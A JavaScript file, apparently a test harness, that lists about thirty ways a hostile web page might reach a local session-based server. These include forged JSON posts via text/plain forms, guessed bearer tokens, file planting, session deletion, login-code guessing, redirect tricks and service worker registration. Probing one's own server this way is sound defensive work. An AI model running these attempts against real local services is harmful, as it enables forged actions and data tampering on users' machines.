// What a hostile page may try with a server of this machine. Each attempt returns what it got hold of, in words, or throws.
// `try=NAME` in the address tells a server's log which attempt a request belongs to; what a page cannot see is seen there.
"use strict";

const wait_ms = 45000; // for what tells a page neither that it worked nor that it did not

function first(target, good, bad) {
  return new Promise((resolve, reject) => {
    setTimeout(() => reject(new Error("silence")), wait_ms);
    target.addEventListener(good, resolve, { once: true });
    for (const name of bad) target.addEventListener(name, () => reject(new Error(name)), { once: true });
  });
}

async function element(tag, attributes) {
  const made = document.createElement(tag);
  const settled = first(made, "load", ["error"]);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  document.body.append(made);
  await settled;
  return made;
}

function message(name) {
  return JSON.stringify({ role: "user", parts: [{ type: "text", text: `sent by ${name}` }] });
}

function form(name, url, target, inside = document) {
  const made = inside.createElement("form");
  Object.assign(made, { method: "POST", action: url, enctype: "text/plain", target });
  // text/plain writes NAME=VALUE: together they are JSON
  const [before, after] = message(name).split("sent by ");
  const field = inside.createElement("input");
  Object.assign(field, { type: "hidden", name: `${before}sent by `, value: after });
  made.append(field);
  inside.body.append(made);
  return made;
}

function frame(attributes) {
  const made = document.createElement("iframe");
  Object.assign(made, attributes);
  document.body.append(made);
  return made;
}

async function readable(window) {
  // as long as it shows our own empty page, nothing has come yet
  const end = Date.now() + wait_ms;
  while (!window.closed && window.location.href === "about:blank") {
    if (Date.now() > end) throw new Error("silence");
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  return window.document.documentElement.textContent;
}

function attempts({ session, guess }) {
  const here = `/v1/sessions/${session}`;
  const post = (name, more) => ({ method: "POST", body: message(name), ...more });
  const signed = { Authorization: `Bearer ${guess}` };
  const json = { "Content-Type": "application/json" };
  const text = async (url, options) => {
    const got = await fetch(url, options);
    if (got.type === "opaque") return null;
    return `${got.status} ${await got.text()}`;
  };
  return {
    image: [`${here}/attachments/picture.png`, async (url) => `${(await element("img", { src: url })).naturalWidth} wide`],
    script: [`${here}/attachments/code.js`, async (url) => (await element("script", { src: url }), window.loot ?? null)],
    module: [`${here}/attachments/code.js`, async (url) => (await import(url), "imported")],
    style: ["/page.css", async (url) => ((await element("link", { rel: "stylesheet", href: url })).sheet ? "style" : null)],
    prefetch: ["/v1/inbox", async (url) => (await element("link", { rel: "prefetch", href: url }), null)],
    preload: ["/v1/inbox", async (url) => (await element("link", { rel: "preload", as: "image", href: url }), null)],
    object: ["/s/" + session, async (url) => (await element("object", { data: url })).contentDocument?.documentElement.textContent ?? null],
    embed: ["/s/" + session, async (url) => (await element("embed", { src: url, type: "text/html" }), null)],
    iframe: [
      "/s/" + session,
      async (url) => (await element("iframe", { src: url })).contentDocument?.documentElement.textContent ?? null,
    ],
    fetch_get: [`${here}/transcript`, (url) => text(url)],
    fetch_open_route: ["/v1/health", (url) => text(url)],
    fetch_opaque: ["/v1/sessions", (url) => text(url, { mode: "no-cors", credentials: "include" })],
    fetch_signed: [`${here}`, (url) => text(url, { headers: signed })],
    fetch_post: [`${here}/messages`, (url) => text(url, post("fetch_post"))],
    fetch_post_opaque: [`${here}/messages`, (url) => text(url, post("fetch_post_opaque", { mode: "no-cors", credentials: "include" }))],
    fetch_post_bare: ["/v1/tickets", (url) => text(url, { method: "POST", mode: "no-cors" })],
    fetch_post_json: ["/v1/sessions", (url) => text(url, { method: "POST", body: '{"workspace_path": "/"}', headers: json })],
    fetch_post_signed: [`${here}/messages`, (url) => text(url, post("fetch_post_signed", { headers: { ...json, ...signed } }))],
    fetch_upload: [
      `${here}/attachments`,
      (url) => {
        const body = new FormData();
        body.append("file", new Blob(["planted"]), "planted.txt");
        return text(url, { method: "POST", body, mode: "no-cors" });
      },
    ],
    fetch_delete: [here, (url) => text(url, { method: "DELETE" })],
    fetch_login: ["/v1/login", (url) => text(url, { method: "POST", body: JSON.stringify({ code: guess }), mode: "no-cors" })],
    fetch_through_redirect: [
      `${here}/messages`,
      (url) => text(`/redirect?to=${encodeURIComponent(url)}`, post("fetch_through_redirect", { mode: "no-cors" })),
    ],
    beacon: [`${here}/messages`, async (url) => (navigator.sendBeacon(url, message("beacon")), null)],
    ping: [
      `${here}/cancel`,
      async (url) => {
        const link = document.createElement("a");
        Object.assign(link, { href: "#", ping: url });
        document.body.append(link);
        link.click();
        return null;
      },
    ],
    events: [
      `${here}/events`,
      async (url) => {
        const stream = new EventSource(url);
        try {
          return (await first(stream, "message", ["error"])).data;
        } finally {
          stream.close();
        }
      },
    ],
    socket: [
      "/v1/ws",
      async (url) => {
        const socket = new WebSocket(url.replace("http:", "ws:"));
        const got = first(socket, "message", ["error", "close"]);
        socket.onopen = () => socket.send(JSON.stringify({ op: "auth", token: guess }));
        return (await got).data;
      },
    ],
    form_in_frame: [
      `${here}/messages`,
      async (url) => {
        const shown = frame({ name: "shown" });
        const loaded = first(shown, "load", ["error"]);
        form("form_in_frame", url, "shown").submit();
        await loaded;
        return shown.contentDocument?.documentElement.textContent ?? null;
      },
    ],
    form_in_tab: [`${here}/messages`, async (url) => (form("form_in_tab", url, "_blank").submit(), null)],
    form_without_origin: [
      `${here}/messages`,
      async (url) => {
        const made = form("form_without_origin", url, "_self", document.implementation.createHTMLDocument());
        const code = "<script>document.forms[0].submit()</" + "script>";
        frame({ sandbox: "allow-scripts allow-forms", srcdoc: made.outerHTML + code });
        return null;
      },
    ],
    form_through_redirect: [
      `${here}/messages`,
      async (url) => (form("form_through_redirect", `/redirect?to=${encodeURIComponent(url)}`, "_blank").submit(), null),
    ],
    opened: [`${here}/transcript`, async (url) => readable(window.open(url))],
    opened_page: ["/s/" + session, async (url) => readable(window.open(url))],
    service_worker: [`${here}/attachments/code.js`, async (url) => (await navigator.serviceWorker.register(url), "registered")],
  };
}

/** Everything at once. What each attempt got; null where the page could not get hold of anything. */
async function attack({ target, ...known }) {
  const got = {};
  const tried = Object.entries(attempts(known)).map(async ([name, [path, attempt]]) => {
    try {
      got[name] = await attempt(`${target}${path}?try=${name}`);
    } catch (error) {
      got[name] = null;
    }
  });
  await Promise.all(tried);
  return got;
}
